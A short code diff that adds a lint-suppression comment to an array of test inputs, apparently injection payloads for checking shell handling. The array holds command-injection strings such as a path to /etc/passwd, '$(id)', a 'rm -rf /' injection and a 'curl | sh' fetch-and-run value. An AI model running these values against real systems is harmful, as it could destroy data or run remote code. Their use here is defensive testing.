@@ -123,6 +123,7 @@ const scalars = [
   '/etc/passwd',
   '$(id)',
   '`id`',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a shell would replace
   '${HOME}',
   "'; rm -rf / #",
   '"; curl x | sh; "',
